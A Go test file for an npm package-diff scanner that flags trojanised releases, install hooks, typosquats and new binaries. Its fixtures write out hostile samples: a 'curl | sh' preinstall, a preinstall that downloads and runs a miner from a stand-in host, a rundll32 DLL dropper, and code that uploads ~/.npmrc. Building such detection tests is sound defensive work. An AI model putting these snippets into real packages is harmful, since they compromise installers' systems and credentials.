package diff

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"customs/internal/finding"
	"customs/internal/names"
)

func compareFiles(t *testing.T, oldFiles, newFiles map[string]string) *Result {
	t.Helper()
	dir := t.TempDir()
	oldPath := npmTarball(t, dir, "old.tgz", oldFiles)
	newPath := npmTarball(t, dir, "new.tgz", newFiles)
	r, err := Paths(context.Background(), oldPath, newPath, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func fileChange(r *Result, path string) *FileChange {
	for i := range r.Files {
		if r.Files[i].Path == path {
			return &r.Files[i]
		}
	}
	return nil
}

func TestTrojanisedReleaseIsMalicious(t *testing.T) {
	clean := debugLike("4.4.1")
	index, browser := clean["src/index.js"], clean["src/browser.js"]
	for _, tc := range []struct {
		name, file, content, role string
		line                      int
	}{
		// chalk/debug: one long obfuscated line put in front of the main module.
		{"prepended to main", "src/index.js", walletHijacker() + "\n" + index, "import-time", 1},
		{"appended to main", "src/index.js", index + walletHijacker() + "\n", "import-time", strings.Count(index, "\n") + 1},
		// A module the main file requires, not the entry itself.
		{"injected into a module", "src/browser.js", strings.Replace(browser, "\n\nfunction localstorage", "\n"+walletHijacker()+"\n\nfunction localstorage", 1), "code", 3},
	} {
		t.Run(tc.name, func(t *testing.T) {
			trojan := with(clean, "package.json", packageJSON("debug-like", "4.4.2", `,
  "dependencies": {"ms-like": "^2.1.3"}`), tc.file, tc.content)
			r := compareFiles(t, clean, trojan)
			if r.Verdict != finding.Malicious {
				t.Fatalf("verdict %s, want malicious; reasons %q", r.Verdict, r.Reasons)
			}
			want := fmt.Sprintf("%s (%s file), line %d", tc.file, tc.role, tc.line)
			if len(r.Reasons) == 0 || !strings.Contains(r.Reasons[0], want) {
				t.Errorf("first reason should name the injected file and line (%q); reasons %q", want, r.Reasons)
			}
			fc := fileChange(r, tc.file)
			if fc == nil || fc.Status != Changed || fc.AddedLines != 1 {
				t.Fatalf("%s change = %+v, want changed with 1 added line", tc.file, fc)
			}
			if strings.HasPrefix(tc.name, "appended") != fc.Appended {
				t.Errorf("appended = %v", fc.Appended)
			}
			if !fc.NewlyObfuscated || !fc.NewlyMinified {
				t.Errorf("%s = %+v, want newly obfuscated and minified", tc.file, fc)
			}
			for _, f := range r.AddedFindings {
				if f.File != tc.file || f.Line != tc.line {
					t.Errorf("added finding outside the injected line: %+v", f)
				}
			}
			if len(r.AddedFindings) == 0 {
				t.Errorf("no analyser finding in the injected code")
			}
			if r.Unchanged != 5 {
				t.Errorf("unchanged files = %d, want 5", r.Unchanged)
			}
		})
	}
}

func TestWormAddingPostinstallIsMalicious(t *testing.T) {
	clean := debugLike("4.4.1")
	worm := with(clean,
		"package.json", packageJSON("debug-like", "4.4.2", `,
  "scripts": {"postinstall": "node bundle.js"},
  "dependencies": {"ms-like": "^2.1.3"}`),
		"bundle.js", tokenStealer)
	r := compareFiles(t, clean, worm)
	if r.Verdict != finding.Malicious {
		t.Fatalf("verdict %s, want malicious; reasons %q", r.Verdict, r.Reasons)
	}
	if !strings.HasPrefix(r.Reasons[0], "malicious: new install hook (postinstall) runs bundle.js, whose added code has ") {
		t.Errorf("the first reason should tie the new hook to what it runs: %q", r.Reasons)
	}
	if len(r.InstallScripts) != 1 || r.InstallScripts[0].Name != "postinstall" || r.InstallScripts[0].Status != Added {
		t.Errorf("install scripts = %+v, want the new postinstall", r.InstallScripts)
	}
	if fc := fileChange(r, "bundle.js"); fc == nil || fc.Status != Added || fc.Role != "install-time" {
		t.Errorf("bundle.js = %+v, want added, install-time", fc)
	}
}

func TestNormalUpdatesAreClean(t *testing.T) {
	clean := debugLike("4.4.1")
	bump := func(extra string) string { return packageJSON("debug-like", "4.4.2", extra) }
	deps := `,
  "dependencies": {"ms-like": "^2.1.3"}`
	minified := func(seed int) string {
		var b strings.Builder
		b.WriteString("!function(e,t){\"object\"==typeof exports?module.exports=t():e.debugLike=t()}(this,function(){")
		for i := 0; i < 400; i++ {
			fmt.Fprintf(&b, "var n%d=function(r){return r.split(\"%d\").map(function(o){return o+%d}).join(\"-\")};", i, i*seed, seed)
		}
		b.WriteString("return{}});\n")
		return b.String()
	}
	for _, tc := range []struct {
		name  string
		files map[string]string
	}{
		{"version bump", with(clean, "package.json", bump(deps))},
		{"refactor with new files", with(clean,
			"package.json", bump(deps),
			"src/node.js", strings.ReplaceAll(clean["src/node.js"], "function log(...args) {", "function log(...args) {\n\tif (!args.length) {\n\t\treturn true;\n\t}"),
			"src/format.js", "const util = require('util');\n\nmodule.exports = function format(value, opts) {\n\treturn util.inspect(value, opts).split('\\n').map(s => s.trim()).join(' ');\n};\n",
			"CHANGELOG.md", "# 4.4.2\n\n- Faster formatting.\n")},
		{"new popular dependency", with(clean, "package.json", bump(`,
  "dependencies": {"ms-like": "^2.1.3", "supports-color": "^10.0.0"}`))},
		{"rebuilt dist bundle", with(with(clean, "dist/debug.min.js", minified(7)), "package.json", bump(deps), "dist/debug.min.js", minified(11))},
	} {
		t.Run(tc.name, func(t *testing.T) {
			old := clean
			if tc.name == "rebuilt dist bundle" {
				old = with(clean, "dist/debug.min.js", minified(7))
			}
			r := compareFiles(t, old, tc.files)
			if r.Verdict != finding.Clean {
				t.Errorf("verdict %s, want clean; reasons %q", r.Verdict, r.Reasons)
			}
		})
	}
}

func TestDependencyChanges(t *testing.T) {
	clean := debugLike("4.4.1")
	r := compareFiles(t, clean, with(clean, "package.json", packageJSON("debug-like", "4.4.2", `,
  "dependencies": {"ms-like": "github:someone/ms-like#main", "left-pad": "^1.3.0"}`)))
	if len(r.Dependencies.Added) != 1 || r.Dependencies.Added[0].Name != "left-pad" {
		t.Errorf("added dependencies = %+v, want left-pad", r.Dependencies.Added)
	}
	if len(r.Dependencies.Changed) != 1 || r.Dependencies.Changed[0].NewSpec != "github:someone/ms-like#main" {
		t.Errorf("changed dependencies = %+v", r.Dependencies.Changed)
	}
	if r.Verdict != finding.Suspicious || !strings.Contains(strings.Join(r.Reasons, "\n"), "switched from the registry") {
		t.Errorf("verdict %s reasons %q, want suspicious for the switch to git", r.Verdict, r.Reasons)
	}
}

func TestNewNativeBinaryIsSuspicious(t *testing.T) {
	clean := debugLike("4.4.1")
	elf := "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 64)
	r := compareFiles(t, clean, with(clean, "package.json", packageJSON("debug-like", "4.4.2", ""), "bin/helper", elf))
	if r.Verdict != finding.Suspicious {
		t.Fatalf("verdict %s, want suspicious; reasons %q", r.Verdict, r.Reasons)
	}
	if fc := fileChange(r, "bin/helper"); fc == nil || !fc.Native {
		t.Errorf("bin/helper = %+v, want a native executable", fc)
	}
}

func TestJSONContract(t *testing.T) {
	clean := debugLike("4.4.1")
	r := compareFiles(t, clean, with(clean, "src/index.js", walletHijacker()+"\n"+clean["src/index.js"]))
	var buf bytes.Buffer
	if err := WriteJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"old", "new", "verdict", "reasons", "added_findings", "files", "dependencies", "install_scripts", "signals"} {
		if _, ok := doc[k]; !ok {
			t.Errorf("JSON lacks %q", k)
		}
	}
	if doc["verdict"] != "malicious" {
		t.Errorf("verdict = %v", doc["verdict"])
	}
	files := doc["files"].([]any)
	f := files[0].(map[string]any)
	for _, k := range []string{"path", "status", "old_size", "new_size", "added_lines"} {
		if _, ok := f[k]; !ok {
			t.Errorf("file entry lacks %q: %v", k, f)
		}
	}
	buf.Reset()
	if err := WriteText(&buf, r); err != nil {
		t.Fatal(err)
	}
	text := buf.String()
	if !strings.HasPrefix(text, "debug-like@4.4.1 → debug-like@4.4.1: MALICIOUS\n  - malicious:") {
		t.Errorf("text does not start with the verdict and reasons:\n%s", text)
	}
	buf.Reset()
	if err := WriteSARIF(&buf, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"ruleId": "diff-injected-code"`) {
		t.Errorf("SARIF lacks the diff's finding:\n%.2000s", buf.String())
	}
}

func TestNewInstallScriptIsScannedAsShell(t *testing.T) {
	clean := debugLike("4.4.1")
	r := compareFiles(t, clean, with(clean, "package.json", packageJSON("debug-like", "4.4.2", `,
  "scripts": {"preinstall": "curl -s https://dl.example/x.sh | sh"}`)))
	if !r.Verdict.Flagged() {
		t.Fatalf("verdict %s, want flagged", r.Verdict)
	}
	var shell bool
	for _, f := range r.AddedFindings {
		shell = shell || strings.Contains(f.Evidence, "scripts.preinstall: ")
	}
	if !shell {
		t.Errorf("the preinstall command was not analysed: findings %+v", r.AddedFindings)
	}
}

// FuzzCompare feeds two hostile archives through the whole comparison:
// whatever the bytes, it returns a result or an error, never panics.
func FuzzCompare(f *testing.F) {
	dir := f.TempDir()
	clean := debugLike("4.4.1")
	oldTgz := readFile(f, npmTarball(f, dir, "a.tgz", clean))
	newTgz := readFile(f, npmTarball(f, dir, "b.tgz", with(clean, "src/index.js", walletHijacker()+"\n"+clean["src/index.js"],
		"package.json", `{"name":"x","scripts":{"postinstall":"node ./a.js"},"main":"../../etc","bin":{"x":"/abs"},"dependencies":{"a":"git+ssh://x"}}`)))
	f.Add(oldTgz, newTgz)
	f.Add(oldTgz, oldTgz[:len(oldTgz)/2])
	f.Add([]byte("not an archive"), newTgz)
	ctx := context.Background()
	f.Fuzz(func(t *testing.T, a, b []byte) {
		oldS, err := loadReader(ctx, "old.tgz", bytes.NewReader(a), int64(len(a)), nil)
		if err != nil {
			return
		}
		newS, err := loadReader(ctx, "new.tgz", bytes.NewReader(b), int64(len(b)), oldS.sums())
		if err != nil {
			return
		}
		r, err := compare(ctx, oldS, newS, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if r.Verdict == "" {
			t.Fatal("no verdict")
		}
		var buf bytes.Buffer
		if err := WriteText(&buf, r); err != nil {
			t.Fatal(err)
		}
	})
}

func TestRepositoryChangeAndNewlyMinifiedAreReportedNotFlagged(t *testing.T) {
	clean := debugLike("4.4.1")
	line := "var table=[" + strings.Repeat("1,2,3,4,5,6,7,8,9,", 150) + "0];\n"
	r := compareFiles(t, clean, with(clean,
		"package.json", strings.Replace(packageJSON("debug-like", "4.4.2", ""), "example/debug-like", "someone-else/debug-like", 1),
		"src/node.js", clean["src/node.js"]+line))
	if r.Verdict != finding.Clean {
		t.Errorf("verdict %s, want clean; reasons %q", r.Verdict, r.Reasons)
	}
	if len(r.Metadata) != 1 || r.Metadata[0].Field != "repository" || !strings.Contains(r.Metadata[0].New, "someone-else") {
		t.Errorf("metadata = %+v, want the repository change", r.Metadata)
	}
	if fc := fileChange(r, "src/node.js"); fc == nil || !fc.NewlyMinified || !fc.Appended || fc.NewlyObfuscated {
		t.Errorf("src/node.js = %+v, want appended, newly minified, not obfuscated", fc)
	}
}

func TestNewTyposquatDependencyIsFlagged(t *testing.T) {
	clean := debugLike("4.4.1")
	dir := t.TempDir()
	oldPath := npmTarball(t, dir, "old.tgz", clean)
	newPath := npmTarball(t, dir, "new.tgz", with(clean, "package.json", packageJSON("debug-like", "4.4.2", `,
  "dependencies": {"ms-like": "^2.1.3", "expresss": "^4.0.0", "lodash": "^4.17.21"}`)))
	r, err := Paths(context.Background(), oldPath, newPath, Options{Names: names.NewChecker(names.Config{})})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Verdict.Flagged() || len(r.Reasons) != 1 || !strings.Contains(r.Reasons[0], "new dependency expresss") || !strings.Contains(r.Reasons[0], "express") {
		t.Errorf("verdict %s reasons %q deps %+v, want the typosquat expresss flagged and popular lodash not", r.Verdict, r.Reasons, r.Dependencies)
	}
}

func TestInstallTimeDroppersAreMalicious(t *testing.T) {
	clean := debugLike("4.4.1")
	hook := func(script string) string {
		return packageJSON("debug-like", "4.4.2", `,
  "scripts": {"`+script+`"},
  "dependencies": {"ms-like": "^2.1.3"}`)
	}
	for _, tc := range []struct {
		name  string
		files map[string]string
		rule  string
	}{
		// eslint-config-prettier 10.1.6: a postinstall that loads a new DLL.
		{"hook with a new binary", with(clean,
			"package.json", hook(`postinstall": "node install.js`),
			"install.js", "const { spawn } = require('child_process');\nif (process.platform === 'win32') {\n\tspawn('rundll32', [__dirname + '/node-gyp.dll,main'], { detached: true });\n}\n",
			"node-gyp.dll", peHeader()), "diff-new-install-binary"},
		// ua-parser-js 0.7.29: a preinstall that downloads and starts a miner.
		{"hook that downloads and runs", with(clean,
			"package.json", hook(`preinstall": "node preinstall.js`),
			"preinstall.js", "const { execSync } = require('child_process');\nconst os = require('os');\nif (os.platform() === 'linux') {\n\texecSync('curl -sk http://dl.example/jsextension -o /tmp/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension -k --tls --rig-id q -o pool.example:443 &');\n}\n"), "diff-new-install-payload"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := compareFiles(t, clean, tc.files)
			if r.Verdict != finding.Malicious {
				t.Fatalf("verdict %s, want malicious; reasons %q", r.Verdict, r.Reasons)
			}
			var rules []string
			for _, s := range r.Signals {
				rules = append(rules, s.Rule)
			}
			if !strings.Contains(strings.Join(rules, " "), tc.rule) {
				t.Errorf("signals %q lack %s; reasons %q", rules, tc.rule, r.Reasons)
			}
		})
	}
}

// peHeader is the start of a PE file: a DOS header pointing at "PE\0\0".
func peHeader() string {
	return "MZ" + strings.Repeat("\x00", 0x3a) + "\x40\x00\x00\x00" + "PE\x00\x00" + strings.Repeat("\x00", 64)
}

func TestPayloadInExtensionlessScriptIsAnalysed(t *testing.T) {
	clean := with(debugLike("4.4.1"), "bin/debug-like", "#!/usr/bin/env node\n'use strict';\nrequire('../src/index.js')('cli')(process.argv.slice(2).join(' '));\n")
	r := compareFiles(t, clean, with(clean, "bin/debug-like", clean["bin/debug-like"]+walletHijacker()+"\n"))
	if !r.Verdict.Flagged() || len(r.AddedFindings) == 0 || r.AddedFindings[0].File != "bin/debug-like" {
		t.Errorf("verdict %s findings %+v: the payload added below the shebang was not analysed", r.Verdict, r.AddedFindings)
	}
}

// TestLookAlikeDependencyIsReportedNotFlagged: aria-query 5.3.2 added the
// es-shims package array.from, which the name checks find close to
// array-from but are not sure about; the update must stay clean.
func TestLookAlikeDependencyIsReportedNotFlagged(t *testing.T) {
	clean := debugLike("4.4.1")
	dir := t.TempDir()
	r, err := Paths(context.Background(), npmTarball(t, dir, "old.tgz", clean), npmTarball(t, dir, "new.tgz", with(clean, "package.json", packageJSON("debug-like", "4.4.2", `,
  "dependencies": {"ms-like": "^2.1.3", "array.from": "^1.1.6"}`))), Options{Names: names.NewChecker(names.Config{})})
	if err != nil {
		t.Fatal(err)
	}
	if r.Verdict != finding.Clean {
		t.Errorf("verdict %s reasons %q, want clean", r.Verdict, r.Reasons)
	}
	var reported bool
	for _, s := range r.Signals {
		reported = reported || strings.Contains(s.Message, "new dependency array.from")
	}
	if !reported {
		t.Errorf("the look-alike name is not reported: %+v", r.Signals)
	}
}

// TestRenamedBuildChunksAreDiffedAgainstTheirOldName: bundlers rename
// chunks by content hash on every build (vitest 5.1.0); the old chunk is the
// base, so code it already had is not news.
func TestRenamedBuildChunksAreDiffedAgainstTheirOldName(t *testing.T) {
	chunk := "import https from 'node:https';\nimport fs from 'node:fs';\nexport function upload(url, file) {\n\tconst body = fs.readFileSync(process.env.HOME + '/.npmrc');\n\treturn https.request(url, { method: 'POST' }).end(body);\n}\n"
	clean := with(debugLike("4.4.1"), "dist/chunks/run.CjdgFZiW.js", chunk, "dist/chunks/index.Di8au7q4.js", "export const a = 1;\n")
	next := with(debugLike("4.4.1"), "package.json", packageJSON("debug-like", "4.4.2", ""),
		"dist/chunks/run.B1x9Qe2a.js", chunk+"export const version = '4.4.2';\n", "dist/chunks/index.COfZo8lK.js", "export const a = 2;\n")
	r := compareFiles(t, clean, next)
	fc := fileChange(r, "dist/chunks/run.B1x9Qe2a.js")
	if fc == nil || fc.Status != Added || fc.RenamedFrom != "dist/chunks/run.CjdgFZiW.js" || fc.AddedLines != 1 {
		t.Fatalf("renamed chunk = %+v, want added, renamed from run.CjdgFZiW.js, 1 added line", fc)
	}
	if len(r.AddedFindings) != 0 {
		t.Errorf("findings the old chunk already had came back as new: %+v", r.AddedFindings)
	}
	for in, want := range map[string]string{
		"dist/run.CjdgFZiW.js": "dist/run..js", "a/b.0123abcd4567.min.js": "a/b..min.js", "x.Di8au7q4.cjs": "x..cjs",
		"index.browser.js": "", "lib/minified.js": "", "README.md": "", "a.b.c": "",
	} {
		if got, ok := hashlessName(in); got != want || ok != (want != "") {
			t.Errorf("hashlessName(%q) = %q, %v; want %q", in, got, ok, want)
		}
	}
}
